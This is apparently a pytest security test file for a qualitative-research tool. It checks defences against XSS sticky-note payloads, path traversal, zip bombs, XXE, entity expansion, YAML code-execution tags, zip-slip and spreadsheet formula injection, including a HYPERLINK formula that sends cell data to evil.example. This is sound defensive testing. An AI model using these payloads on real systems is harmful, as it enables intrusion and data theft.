"""Hostile and messy input (issue 17): what an attacker or a careless user feeds codesign, and what must hold.

Each finding of the issue is a test here: scripts in shared reports, writes outside the project, zip bombs,
formula injection, tracebacks and all-or-nothing failures, encodings. What already held (XXE, entity
expansion, YAML tags, zip-slip, many members, kill -9, raw files untouched, no formulas in the deliverables)
is kept by tests too. Reports in a real browser are in the integration tier (tests/test_hostile.py at the end).
"""
from __future__ import annotations

import hashlib
import html
import io
import re
import subprocess
import sys
import tracemalloc
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from conftest import REPO, write_tiny_project

from codesign.cli import main
from codesign.core.errors import CodesignError, InputError
from codesign.core.project import load_project
from codesign.core.register import load_register
from codesign.sources.ingest import read_sources

#: Markup a participant might write on a sticky note; every payload sets a marker only a running script
#: can write (the attribute name is assembled at run time, so the escaped text itself never contains it).
PAYLOADS = [
    "<img src=x onerror=\"document.documentElement.setAttribute('data-'+'pwned','img')\">",
    "<script>document.documentElement.setAttribute('data-'+'pwned','script')</script>",
    "<svg onload=\"document.documentElement.setAttribute('data-'+'pwned','svg')\"></svg>",
    "[klikkaa](javascript:document.documentElement.setAttribute('data-'+'pwned','link'))",
    "&lt;img src=x onerror=alert(1)&gt; $<b>x</b>$ `<i>`",
]


def _tiny(tmp_path: Path) -> Path:
    return write_tiny_project(tmp_path / "tiny")


def _files_under(folder: Path) -> set[Path]:
    return {p for p in folder.rglob("*") if p.is_file()}


def _digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(_files_under(folder))}


def _add_source(root: Path, yaml_lines: str) -> None:
    config = root / "project.yml"
    text = config.read_text(encoding="utf-8")
    config.write_text(text.replace("pseudonymisation:", yaml_lines.rstrip("\n") + "\npseudonymisation:"),
                      encoding="utf-8")


# ---------------------------------------------------------------------------------------------------------
# 1. No script in a shared report: material is escaped; the reports forbid scripts altogether
# ---------------------------------------------------------------------------------------------------------

def _rendered_text(markdown: str) -> tuple[str, set[str]]:
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    out = markdown2html_mistune(markdown)
    out = re.sub(r'<a class="anchor-link"[^>]*>[^<]*</a>', "", out)      # the ¶ anchors of headings
    tags = set(re.findall(r"<(\w+)", out))
    return html.unescape(re.sub(r"<[^>]+>", "", out)).strip(), tags


def test_quotes_in_markdown_render_as_their_text_never_as_markup():
    from codesign.outputs import explore

    hostile = PAYLOADS + ["# otsikko", "- lista", "1. lista", "> lainaus", "a | b", "**lihava**", "~~x~~",
                          "<https://example.com>", "http://a.b/<img src=x onerror=1>", "\\<b\\>", "<!-- x -->"]
    frame = pd.DataFrame({"text": hostile, "segment_id": [f"W1-{i:03d}" for i in range(len(hostile))],
                          "participant": ["<b>P01</b>"] * len(hostile), "group": ["yrittäjä"] * len(hostile),
                          "stage": ["workshop1"] * len(hostile)})
    quoted = explore.quotes(frame, n=len(hostile))
    markdown = explore.quote_lines(quoted, "fi")
    text, tags = _rendered_text(markdown)
    assert tags <= {"ul", "li"}, tags                      # no element a participant wrote
    for value in hostile:
        assert f"“{' '.join(value.split())}” (W" in text, value   # shown literally, exactly as written
    assert "<b>P01</b>, yrittäjä" in text


def test_md_escapes_every_markdown_and_html_construct():
    from codesign.outputs.markup import md

    for value in PAYLOADS + ["1) eka", "+ plus", "   - sisennys", "www.x.fi ja https://x.fi/a?b=c", "a\n# b\n===",
                             'a" onmouseover="alert(1)', "\\"]:
        for before, after in (("", ""), ("### ", ""), ("- “", "”"), ("**", "**")):
            text, tags = _rendered_text(before + md(value) + after)
            assert tags <= {"p", "h3", "ul", "li", "strong"}, (value, before, tags)
            shown = " ".join(value.split())
            assert text == (before.strip("#* -") + shown + after.strip("*")).strip(), (value, before, text)


def test_styled_tables_escape_cells_and_headers():
    from codesign.outputs.markup import styled

    frame = pd.DataFrame({"<script>alert(1)</script>": [PAYLOADS[0], 1.5], "quote": [PAYLOADS[1], None]})
    rendered = styled(frame, na_rep="–", precision=2).to_html()
    assert "<script" not in rendered and "<img" not in rendered
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered and "&lt;img src=x onerror" in rendered
    assert "1.50" in rendered and "–" in rendered              # the format options still apply


def test_notebooks_show_material_only_through_the_escaping_helpers():
    """Every table a report notebook shows goes through markup.styled (a bare Styler writes raw HTML), and
    quotes through explore.quote_lines or markup.md."""
    import json

    for path in sorted((REPO / "notebooks").glob("[0-9][0-9]_*.ipynb")):
        cells = json.loads(path.read_text(encoding="utf-8"))["cells"]
        code = "\n".join("".join(c["source"]) for c in cells if c["cell_type"] == "code")
        assert ".style." not in code and ".style)" not in code, path.name
        assert "str(r.quote)" not in code and "{row['text']}" not in code, path.name


def test_figure_labels_from_the_material_are_text_not_mathtext():
    from codesign.outputs import plots

    counts = pd.DataFrame({"prompt": ["Hinta $5 ja \\frac{$ paha", "<b>x</b>"], "theme": ["T1", "T2"],
                           "n_segments": [2, 3]})
    fig = plots.count_heatmap(counts, "prompt", "theme", title="<script>", xlabel="$x$", ylabel="")
    fig.savefig(io.BytesIO(), format="png")          # mathtext would fail on the unbalanced \\frac{$
    assert any("\\frac{$" in label.get_text() for label in fig.axes[0].get_yticklabels())


def _fake_executed_notebook(path: Path) -> Path:
    import nbformat
    from nbformat.v4 import new_code_cell, new_notebook, new_output

    from codesign.outputs.explore import quote_lines
    from codesign.outputs.markup import styled

    quoted = pd.DataFrame({"segment_id": ["W1-001", "W1-002"], "participant": [None, "P01"],
                           "group": ["yrittäjä", None], "stage": ["workshop1"] * 2,
                           "quote": [f"“{PAYLOADS[0]}” (W1-001)", f"“{PAYLOADS[1]}” (W1-002)"]})
    table = styled(pd.DataFrame({"lainaus": PAYLOADS})).to_html()
    cell = new_code_cell("display(...)", outputs=[
        new_output("display_data", data={"text/markdown": quote_lines(quoted), "text/plain": "x"}),
        new_output("display_data", data={"text/html": table, "text/plain": "x"})])
    nb = new_notebook(cells=[cell])
    nbformat.write(nb, path)
    return path


def test_report_html_forbids_scripts_and_keeps_material_as_text(tmp_path):
    from codesign.outputs.markup import CONTENT_SECURITY_POLICY
    from codesign.pipeline.index import render_index
    from codesign.pipeline.notebooks import to_html

    report = to_html(_fake_executed_notebook(tmp_path / "01_hostile.ipynb"), "hostile")
    page = report.read_text(encoding="utf-8")
    head = page[:page.index("</head>")]
    csp = head.index('http-equiv="Content-Security-Policy"')
    assert "script-src 'none'" in CONTENT_SECURITY_POLICY and CONTENT_SECURITY_POLICY in head
    assert all(csp < m.start() for m in re.finditer(r"<script", head))     # the policy comes before any script
    body = page[page.index("<body"):]
    assert not re.search(r"<(img|svg)[^>]*\son\w+=", body) and "<script>document" not in body
    assert "&lt;img src=x onerror=" in body and "&lt;script&gt;document" in body      # shown as text
    meta = {"title": "<script>x</script>", "build": "b", "finished": "f", "status": "ok", "duration_s": 1.0,
            "notebooks": [], "steps": [], "parameters": {}, "versions": {}, "inputs_hash": "h", "project": "p",
            "kernel": "k"}
    index = render_index(meta)
    assert CONTENT_SECURITY_POLICY in index and "<script>x" not in index


# ---------------------------------------------------------------------------------------------------------
# 2. Ids and paths are data: nothing is written outside the project; sources outside it are refused
# ---------------------------------------------------------------------------------------------------------

def test_inside_refuses_every_way_out(tmp_path):
    from codesign.core.safety import inside

    folder = tmp_path / "build" / "sources"
    folder.mkdir(parents=True)
    assert inside(folder, "H01.txt") == folder / "H01.txt"
    (folder / "link").symlink_to(tmp_path)
    for name in ("../x.txt", "../../x.txt", str(tmp_path / "abs.txt"), "link/x.txt", "a/../../x.txt"):
        with pytest.raises(CodesignError, match="outside"):
            inside(folder, name)


@pytest.mark.parametrize("bad", ["../../../x", "/tmp/codesign-hostile-abs", "H01/../../x", "a b", "H01.txt", ""])
def test_interview_id_is_checked_with_file_and_line(tiny_project, bad):
    path = tiny_project / "raw/interviews/H02.txt"
    path.write_text(f"---\nparticipant: P02\ninterview: {bad!r}\n---\nP02: Hei.\n", encoding="utf-8")
    project = load_project(tiny_project)
    documents, failures = read_sources(project, load_register(project.register_path, project.groups))
    assert {d.source_id for d in documents} == {"W1", "H01", "S", "C"}      # the others are read
    (failure,) = failures
    assert "H02.txt, line 3" in failure.error and "not a valid id" in failure.error and "how to fix" in failure.error


@pytest.mark.parametrize("key, value, message", [
    ("id", "../W1", "source id '../W1' is not a valid id"),
    ("name", "../../elsewhere", "project name '../../elsewhere' is not a valid id"),
    ("path", "../outside/secret.csv", "lies outside the project folder"),
    ("path", "/etc/passwd", "lies outside the project folder"),
])
def test_project_yml_ids_and_paths_are_checked(tiny_project, capsys, key, value, message):
    config = tiny_project / "project.yml"
    text = config.read_text(encoding="utf-8")
    text = text.replace("name: tiny", f"name: {value}") if key == "name" else \
        text.replace("  - id: W1\n", f"  - id: {value}\n") if key == "id" else \
        text.replace("path: raw/notes.csv", f"path: {value}")
    config.write_text(text, encoding="utf-8")
    assert main(["ingest", str(tiny_project)]) == 2
    err = capsys.readouterr().err
    assert message in err and "project.yml, line" in err and "Traceback" not in err


def test_sources_outside_the_project_only_when_allowed(tmp_path, capsys):
    root = _tiny(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    (root / "raw/notes.csv").rename(outside / "secret.csv")
    config = root / "project.yml"
    config.write_text(config.read_text(encoding="utf-8").replace("path: raw/notes.csv", "path: ../outside/secret.csv"),
                      encoding="utf-8")
    with pytest.raises(InputError, match="outside the project") as err:
        load_project(root)
    assert err.value.line is not None and "allow_outside_sources" in str(err.value)
    # a link inside the project that leads out is outside too
    config.write_text(config.read_text(encoding="utf-8").replace("path: ../outside/secret.csv", "path: raw/notes.csv"),
                      encoding="utf-8")
    (root / "raw/notes.csv").symlink_to(outside / "secret.csv")
    with pytest.raises(InputError, match="outside the project folder"):
        load_project(root).expand_sources()
    config.write_text("allow_outside_sources: true\n" + config.read_text(encoding="utf-8"), encoding="utf-8")
    project = load_project(root)
    documents, failures = read_sources(project, load_register(project.register_path, project.groups))
    assert not failures and "W1" in {d.source_id for d in documents}


# ---------------------------------------------------------------------------------------------------------
# 5. Bounded resources: zip members checked before inflating, caps with clear errors, long turns split
# ---------------------------------------------------------------------------------------------------------

def _bomb(path: Path, member: str = "project.qde", size_mb: int = 150, lie: bool = False) -> Path:
    """A small zip whose member inflates to ``size_mb`` MB; ``lie``: its headers declare 1 kB."""
    import struct

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open(member, "w") as handle:
            block = b"<" * (1 << 20)
            for _ in range(size_mb):
                handle.write(block)
    data = bytearray(buffer.getvalue())
    if lie:       # the uncompressed size in the local header and in the central directory
        struct.pack_into("<I", data, data.find(b"PK\x03\x04") + 22, 1024)
        struct.pack_into("<I", data, data.find(b"PK\x01\x02") + 24, 1024)
    path.write_bytes(bytes(data))
    return path


def _peak_mb(call) -> tuple[object, float]:
    tracemalloc.start()
    try:
        result = call()
    finally:
        peak = tracemalloc.get_traced_memory()[1] / 2**20
        tracemalloc.stop()
    return result, peak


def test_zip_bomb_is_refused_before_inflating_by_every_command(tmp_path, capsys):
    """A 150 kB .qdpx whose project XML inflates to 150 MB: import-qdpx, agreement and leak-check refuse it
    from its directory, with a clear error, in far less memory than the member (goal: ≤ 2× the limit)."""
    root = _tiny(tmp_path)
    bomb = _bomb(tmp_path / "bomb.qdpx")
    assert bomb.stat().st_size < 1_000_000
    for argv in (["import-qdpx", str(bomb), str(root)], ["agreement", str(bomb), str(bomb), "--project", str(root)],
                 ["leak-check", str(root), str(bomb)]):
        code, peak = _peak_mb(lambda: main(argv))
        err = capsys.readouterr().err
        assert code == 2, (argv, err)
        assert "would inflate to 150 MB (at most 100 MB)" in err and "Traceback" not in err, err
        assert peak < 20, (argv, peak)                   # megabytes of Python allocations: nothing inflated


def test_a_member_that_lies_about_its_size_is_cut_at_its_declared_size(tmp_path, capsys):
    root = _tiny(tmp_path)
    liar = _bomb(tmp_path / "liar.qdpx", size_mb=50, lie=True)
    assert zipfile.ZipFile(liar).infolist()[0].file_size == 1024
    code, peak = _peak_mb(lambda: main(["import-qdpx", str(liar), str(root)]))
    err = capsys.readouterr().err
    assert code == 2 and "cannot be read" in err and "project.qde" in err and "Traceback" not in err, err
    assert peak < 20, peak


def test_compression_ratio_and_member_count_are_checked(tmp_path):
    from codesign.core.safety import Limits, open_zip

    bomb = _bomb(tmp_path / "ratio.zip", size_mb=20)           # under the size cap, but 1000 to 1
    with pytest.raises(InputError, match="compressed .* to 1"):
        open_zip(bomb)
    open_zip(bomb, Limits(max_compression_ratio=5000)).close()
    with pytest.raises(InputError, match="members"):
        open_zip(bomb, Limits(max_members=0.5))


def test_corrupt_deflate_stream_unknown_encoding_and_deep_codes_are_clear_errors(tiny_project, tmp_path, capsys):
    def qdpx(name: str, xml: bytes, corrupt: bool = False) -> Path:
        path = tmp_path / name
        with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED if not corrupt else zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("project.qde", xml)
        if corrupt:
            data = bytearray(path.read_bytes())
            start = data.find(b"project.qde") + len("project.qde")
            for i in range(start + 2, start + 40):
                data[i] ^= 0x5A
            path.write_bytes(bytes(data))
        return path

    project = b'<?xml version="1.0" encoding="utf-8"?><Project xmlns="urn:QDA-XML:project:1.0" name="x">' \
              b'<CodeBook><Codes>' + b'<Code guid="a" name="k">' * 50_000 + b"</Code>" * 50_000 + \
              b"</Codes></CodeBook></Project>"
    cases = {
        "klingon.qdpx": (qdpx("klingon.qdpx", b'<?xml version="1.0" encoding="x-klingon"?><Project/>'),
                         "encoding Python does not know"),
        "deep.qdpx": (qdpx("deep.qdpx", project), "nested more than 200 levels deep"),
        "corrupt.qdpx": (qdpx("corrupt.qdpx", b"<Project>" + b"x" * 5000 + b"</Project>", corrupt=True),
                         "cannot be read"),
    }
    for name, (path, message) in cases.items():
        for argv in (["import-qdpx", str(path), str(tiny_project)],
                     ["agreement", str(path), str(path), "--project", str(tiny_project)]):
            assert main(argv) == 2, (name, argv)
            err = capsys.readouterr().err
            assert message in err and name in err and "Traceback" not in err, (name, err)


def test_xlsx_and_docx_members_are_checked_before_openpyxl_and_python_docx_inflate(tiny_project):
    from codesign.sources.readers.tabular import read_source_table
    from codesign.sources.readers.transcript import _docx_blocks

    book = _bomb(tiny_project / "raw" / "bomb.xlsx", member="xl/sharedStrings.xml", size_mb=120)
    with pytest.raises(InputError, match="would inflate"):
        read_source_table(book)
    document = _bomb(tiny_project / "raw" / "bomb.docx", member="word/document.xml", size_mb=120)
    from codesign.core.safety import DEFAULT_LIMITS
    with pytest.raises(InputError, match="would inflate"):
        _docx_blocks(document, DEFAULT_LIMITS)


def test_size_and_row_caps_are_clear_errors(tiny_project):
    config = tiny_project / "project.yml"
    config.write_text(config.read_text(encoding="utf-8") + "limits: {max_rows: 2}\n", encoding="utf-8")
    project = load_project(tiny_project)
    _, failures = read_sources(project, load_register(project.register_path, project.groups))
    notes = next(f for f in failures if "notes.csv" in f.path)
    assert "more than 2 rows" in notes.error and "row 4" in notes.error and "limits.max_rows" in notes.error
    config.write_text(config.read_text(encoding="utf-8").replace("max_rows: 2", "max_source_mb: 0.0001"),
                      encoding="utf-8")
    project = load_project(tiny_project)
    documents, failures = read_sources(project, load_register(project.register_path, project.groups))
    assert not documents and all("limits.max_source_mb" in f.error for f in failures)
    config.write_text(config.read_text(encoding="utf-8").replace("max_source_mb: 0.0001", "max_rowz: 3"),
                      encoding="utf-8")
    with pytest.raises(InputError, match="unknown limit 'max_rowz'") as err:
        load_project(tiny_project)
    assert err.value.line is not None and "did you mean 'max_rows'" in err.value.hint
    for value in ("0", "-3", "many", "true"):
        config.write_text(config.read_text(encoding="utf-8").split("limits:")[0] + f"limits:\n  max_rows: {value}\n",
                          encoding="utf-8")
        with pytest.raises(InputError, match="limit 'max_rows': .* is not a whole number \\(more than 0\\)") as err:
            load_project(tiny_project)
        assert err.value.line == len(config.read_text(encoding="utf-8").splitlines()), value


def test_long_turns_are_split_at_sentence_ends():
    from codesign.sources.ingest import split_long_segments, split_points
    from codesign.sources.segments import Segment, SourceDocument

    text = "Ensimmäinen lause on tässä. Toinen lause jatkuu vähän pidempään! Kolmas? " * 30
    pieces = split_points(text, 200)
    assert all(end - start <= 200 for start, end in pieces)
    assert all(text[end - 1] in ".!?" for _, end in pieces[:-1])              # cut after a sentence's end
    assert " ".join(text[s:e] for s, e in pieces) == " ".join(text.split())  # nothing lost, nothing added
    assert split_points("x" * 1000, 300) == [(0, 300), (300, 600), (600, 900), (900, 1000)]   # one word: hard
    body = "Sana " * 100
    document = SourceDocument("H01", "interview", "transcript", "raw/H01.txt", "P01: " + body, [
        Segment("H01-001", "H01", "interview", "txt", "P01", None, None, "participant", 1, body.strip(), 5,
                5 + len(body.strip()))])
    split = split_long_segments(document, 120)
    assert [s.segment_id for s in split.segments] == [f"H01-001.{n}" for n in range(1, 6)]
    assert all(split.text[s.start:s.end] == s.text and s.turn == 1 for s in split.segments)


def test_names_replaced_in_one_chunk_are_replaced_in_every_chunk():
    from codesign.privacy.pseudonymise import Replacement
    from codesign.sources.ingest import _replace_everywhere
    from codesign.sources.segments import Segment, SourceDocument

    def doc(source_id, text):
        return SourceDocument(source_id, "workshop1", "table", "x", text, [
            Segment(f"{source_id}-001", source_id, "workshop1", "csv", None, None, None, "participant", 1, text,
                    0, len(text))])
    documents = [doc("A", "Soitin Mikko Raution kanssa."), doc("B", "Mikko Rautio tuli. Mikko Raution auto.")]
    found = [[[]], [[Replacement(0, 12, "person", "Mikko Rautio", "[HENKILÖ-1]")]]]   # found in chunk 2 only
    _replace_everywhere(documents, found)
    assert found[0][0] == []              # "Mikko Raution" was replaced nowhere: the leak gate's business
    assert [(r.start, r.original) for r in found[1][0]] == [(0, "Mikko Rautio")]
    documents[0] = doc("A", "Soitin Mikko Rautio kanssa, ja Mikko Rautiolle.")
    _replace_everywhere(documents, found)
    assert [(r.start, r.end, r.placeholder) for r in found[0][0]] == [(7, 19, "[HENKILÖ-1]")]


def test_an_unforeseen_failure_of_one_source_is_that_sources_error(tiny_project, monkeypatch):
    from codesign.sources import ingest as step

    original = step.READERS["table"]

    def explode(spec, path, ctx):
        if path.name == "notes.csv":
            raise RecursionError("maximum recursion depth exceeded")
        if path.name == "comments.csv":
            raise KeyError("a bug in a reader")
        return original(spec, path, ctx)
    monkeypatch.setitem(step.READERS, "table", explode)
    project = load_project(tiny_project)
    documents, failures = read_sources(project, load_register(project.register_path, project.groups))
    assert {d.source_id for d in documents} == {"H01", "S"}
    by_file = {Path(f.path).name: f for f in failures}
    assert "nested too deeply" in by_file["notes.csv"].error
    assert "KeyError" in by_file["comments.csv"].error and "ingest_errors.log" in by_file["comments.csv"].error
    assert "Traceback" in by_file["comments.csv"].trace and "Traceback" not in by_file["comments.csv"].error


# ---------------------------------------------------------------------------------------------------------
# One ingest of a project full of hostile and messy sources: each failure is that source's, the rest is
# ingested and pseudonymised, nothing is written outside, raw/ is untouched
# ---------------------------------------------------------------------------------------------------------

def test_hostile_ingest_isolates_each_failure_and_writes_only_inside(tmp_path, capsys, monkeypatch):
    from codesign.privacy.pseudonymise import Pseudonymiser

    root = _tiny(tmp_path)
    interviews = root / "raw" / "interviews"
    absolute = tmp_path / "absolute-target"
    head = "---\nparticipant: P02\ninterview: {}\n---\n"
    (interviews / "H02.txt").write_text(head.format("../../../x") + "P02: Hei.\n", encoding="utf-8")
    (interviews / "H03.txt").write_text(head.format(absolute) + "P02: Hei.\n", encoding="utf-8")
    # Word's "save as text" (Windows-1252), a UTF-16 file with its BOM, UTF-8 with a BOM
    (interviews / "H04.txt").write_bytes((head.format("H04") + "P02: Hyvää päivää, työsuhdeasunnot.\n")
                                         .encode("cp1252"))
    (interviews / "H05.txt").write_bytes((head.format("H05") + "P02: Ääni kuuluu hyvin.\n").encode("utf-16"))
    (interviews / "H06.txt").write_bytes(("\ufeff" + head.format("H06") + "P02: Kyllä.\n").encode("utf-8"))
    # a turn of 1,000,000 characters (spaCy's own limit): split into segments, not an abort
    (interviews / "H07.txt").write_text(head.format("H07") + "P02: " + ("a" * 998 + ". ") * 500 + "\n",
                                        encoding="utf-8")
    # UTF-16 without its byte-order mark: refused by name
    (interviews / "H08.txt").write_bytes((head.format("H08") + "P02: Hei.\n").encode("utf-16-le"))
    # a source whose text makes the pseudonymiser fail: that source fails, the others are pseudonymised
    (interviews / "H09.txt").write_text(head.format("H09") + "P02: KAATUU tässä.\n", encoding="utf-8")
    original = Pseudonymiser.pseudonymise

    def fragile(self, docs, groups=None):
        if any("KAATUU" in doc.text for doc in docs):
            raise ValueError("simulated failure")
        return original(self, docs, groups)
    monkeypatch.setattr(Pseudonymiser, "pseudonymise", fragile)
    # a UTF-16 CSV (Excel's "Unicode text"): read, not misreported as a field-count error
    (root / "raw" / "utf16.csv").write_bytes("Lappu\tKehys\nKylät elävät\tVisio\n".encode("utf-16"))
    _add_source(root, "  - id: W9\n    stage: workshop1\n    format: table\n    path: raw/utf16.csv\n"
                      "    columns: {text: Lappu, prompt: Kehys}\n")
    raw_before, outside_before = _digest(root / "raw"), _files_under(tmp_path) - _files_under(root)

    assert main(["ingest", str(root)]) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert "H02.txt, line 3: interview id '../../../x' is not a valid id" in err
    assert f"H03.txt, line 3: interview id '{absolute}' is not a valid id" in err
    assert "H08.txt" in err and "UTF-16 without a byte-order mark" in err
    assert "H09.txt" in err and "failed while pseudonymising it (ValueError: simulated failure)" in err
    assert "4 source(s) failed" in err
    segments = pd.read_parquet(root / "build" / "segments.parquet")
    assert {"W1", "H01", "S", "C", "H04", "H05", "H06", "H07", "W9"} == set(segments["source_id"])
    assert "Hyvää päivää, työsuhdeasunnot." in set(segments["text"])
    assert "Ääni kuuluu hyvin." in set(segments["text"]) and "Kylät elävät" in set(segments["text"])
    long = segments[segments["source_id"] == "H07"]
    assert len(long) > 1 and long["text"].str.len().max() <= 20_000 and set(long["turn"]) == {1}
    assert (long["segment_id"].str.fullmatch(r"H07-001\.\d+")).all()
    assert (_files_under(tmp_path) - _files_under(root)) == outside_before       # nothing written outside
    assert not absolute.with_suffix(".txt").exists() and not (tmp_path / "x.txt").exists()
    assert _digest(root / "raw") == raw_before                                   # raw files only read
    report = (root / "build" / "ingest_report.json").read_text(encoding="utf-8")
    assert "../../../x" not in report and "H09.txt" in report
    log = (root / "private" / "ingest_errors.log").read_text(encoding="utf-8")
    assert "simulated failure" in log and "Traceback" in log                      # details stay private


# ---------------------------------------------------------------------------------------------------------
# 6. CSV and XLSX: a cell never runs as a formula
# ---------------------------------------------------------------------------------------------------------

def test_csv_cells_that_would_run_as_formulas_are_written_as_text_and_read_back_exactly(tmp_path, monkeypatch):
    from codesign.analysis.tables import read_table
    from codesign.core.safety import FORMULA_START, write_csv

    values = ["=HYPERLINK(\"http://x\",\"y\")", "+358 40 1", "-1+1", "@SUM(A1)", "\tx", "\rx", "'=jo", "'",
              "tavallinen", "- ranskalainen viiva", None]
    frame = pd.DataFrame({"goal_id": [f"T1.G{i}" for i in range(len(values))], "quote": values,
                          "n": range(len(values)), "share": [-0.5] * len(values)})
    path = tmp_path / "evidence_ledger.csv"
    write_csv(frame, path)
    written = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert not any(v.startswith(FORMULA_START) for v in written["quote"])             # what Excel sees
    assert written["share"].iloc[0] == "-0.5"                                         # numbers stay numbers
    import codesign.analysis.tables as tables

    monkeypatch.setitem(tables.COLUMNS, "ledger_copy", ["quote"])
    (tmp_path / "ledger_copy.csv").write_bytes(path.read_bytes())
    back = read_table(tmp_path, "ledger_copy")
    assert back["quote"].tolist()[:-1] == values[:-1] and back["quote"].isna().iloc[-1]


def test_programme_text_never_becomes_a_formula_in_the_workbooks(tmp_path):
    from openpyxl import load_workbook
    from test_templates import make_project

    from codesign.outputs.templates import make_templates

    root = make_project(tmp_path / "p")
    programme = root / "programme.yml"
    text = programme.read_text(encoding="utf-8")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Klikkaa")'
    programme.write_text(text.replace("owner: Kolarin Kehitys Oy", f"owner: '{evil}'", 1), encoding="utf-8")
    result = make_templates(root)
    cells = []
    for path in (result.monitoring, result.communication):
        book = load_workbook(path)
        cells += [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        with zipfile.ZipFile(path) as archive:
            assert not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in archive.namelist()
                           if n.startswith("xl/worksheets/"))
    assert any(c.value == evil for c in cells) and not any(c.data_type == "f" for c in cells)
    # the committee summary: text runs only, no Word field that could carry a formula or a link
    from codesign.outputs.summary import write_summary

    with zipfile.ZipFile(write_summary(root)) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.endswith(".xml"))
    assert b"fldSimple" not in xml and b"instrText" not in xml


# ---------------------------------------------------------------------------------------------------------
# 7. Encodings and what held: XXE, entity expansion, YAML tags, zip-slip
# ---------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("data, expected", [
    ("Hyvää päivää".encode("utf-16"), "Hyvää päivää"),
    ("Hyvää päivää".encode("utf-16-be").join([b"\xfe\xff", b""]), "Hyvää päivää"),
    ("Hyvää päivää".encode("utf-32"), "Hyvää päivää"),
    ("\ufeffHyvää päivää".encode("utf-8"), "Hyvää päivää"),
    ("Hyvää päivää".encode("cp1252"), "Hyvää päivää"),
])
def test_encodings_are_detected(tmp_path, data, expected):
    from codesign.sources.readers.tabular import decode_text

    assert decode_text(tmp_path / "x.txt", data, "auto") == expected


def test_utf16_csv_is_read_and_utf16_without_bom_refused_by_name(tmp_path):
    from codesign.sources.readers.tabular import decode_text, read_source_table

    path = tmp_path / "notes.csv"
    path.write_bytes("Lappu;Kehys\nKylät elävät;Visio\nToinen;Nykytila\n".encode("utf-16"))
    table = read_source_table(path)
    assert table.header == ["Lappu", "Kehys"] and table.rows[1] == ["Toinen", "Nykytila"]
    with pytest.raises(InputError, match="UTF-16 without a byte-order mark"):
        decode_text(path, "Lappu;Kehys\n".encode("utf-16-le"))
    plain = path.with_name("plain.csv")
    plain.write_text("a\nb\n", encoding="utf-8")
    with pytest.raises(InputError, match="unknown encoding 'x-klingon'"):
        read_source_table(plain, {"encoding": "x-klingon"})


def test_xml_external_entities_and_entity_expansion_stay_harmless(tiny_project, tmp_path, capsys):
    secret = tmp_path / "secret.txt"
    secret.write_text("SALAISUUS", encoding="utf-8")
    xxe = tmp_path / "xxe.qde"
    xxe.write_text(f'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file://{secret}">]>'
                   '<Project xmlns="urn:QDA-XML:project:1.0" name="&x;"/>', encoding="utf-8")
    lol = tmp_path / "lol.qde"
    entities = "".join(f'<!ENTITY e{i} "{("&e" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    lol.write_text(f'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY e0 "ha">{entities}]><Project name="&e9;"/>',
                   encoding="utf-8")
    for path in (xxe, lol):
        assert main(["import-qdpx", str(path), str(tiny_project)]) == 2
        err = capsys.readouterr().err
        assert "not well-formed XML" in err and "SALAISUUS" not in err and "Traceback" not in err


def test_a_yaml_alias_bomb_in_front_matter_is_refused_not_expanded(tiny_project):
    """Five known keys, each a list of 1,000 aliases of the one before: 10^15 strings if turned into text."""
    keys = ["sector", "village", "date", "language", "group"]
    lines = ["sector: &k0 [" + ", ".join(["x"] * 1000) + "]"]
    lines += [f"{key}: &k{i} [" + ", ".join([f"*k{i - 1}"] * 1000) + "]" for i, key in enumerate(keys[1:], start=1)]
    path = tiny_project / "raw/interviews/H02.txt"
    path.write_text("---\ninterview: H02\nparticipant: P02\n" + "\n".join(lines) + "\n---\nP02: Hei.\n",
                    encoding="utf-8")
    project = load_project(tiny_project)
    documents, failures = read_sources(project, load_register(project.register_path, project.groups))
    (failure,) = failures
    assert "H02.txt" in failure.error and "must be one value, not a list" in failure.error


def test_yaml_tags_in_project_yml_are_refused(tiny_project, capsys, tmp_path):
    marker = tmp_path / "ran"
    config = tiny_project / "project.yml"
    config.write_text(f"x: !!python/object/apply:os.system ['touch {marker}']\n" + config.read_text(encoding="utf-8"),
                      encoding="utf-8")
    assert main(["ingest", str(tiny_project)]) == 2
    err = capsys.readouterr().err
    assert "invalid YAML" in err and "line 1" in err and not marker.exists()


def test_a_glob_of_ten_thousand_files_expands(tmp_path):
    root = _tiny(tmp_path)
    folder = root / "raw" / "interviews"
    for i in range(10_000):
        (folder / f"X{i:05d}.txt").touch()
    pairs = load_project(root).expand_sources()
    assert sum(p.name.startswith("X") for _, p in pairs) == 10_000


def test_zip_slip_member_names_are_never_paths(tiny_project, tmp_path, capsys):
    from codesign.outputs.qdpx import read_qdpx

    path = tmp_path / "slip.qdpx"
    xml = ('<?xml version="1.0" encoding="utf-8"?><Project xmlns="urn:QDA-XML:project:1.0" name="x"><Sources>'
           '<TextSource guid="11111111-1111-1111-1111-111111111111" name="H01" '
           'plainTextPath="internal://../../../../etc/passwd"/>'
           '<TextSource guid="22222222-2222-2222-2222-222222222222" name="H02" plainTextPath="absolute:///etc/passwd"/>'
           '</Sources></Project>')
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("project.qde", xml)
        archive.writestr("../../evil.txt", "pahaa")
        archive.writestr("/abs/evil.txt", "pahaa")
    before = _files_under(tmp_path)
    content = read_qdpx(path)
    assert set(content.sources["status"]) == {"missing"} and not content.texts
    assert _files_under(tmp_path) == before and not (tmp_path.parent / "evil.txt").exists()


# ---------------------------------------------------------------------------------------------------------
# Integration: a whole build with hostile sticky notes, opened in headless Chromium; many members; kill -9
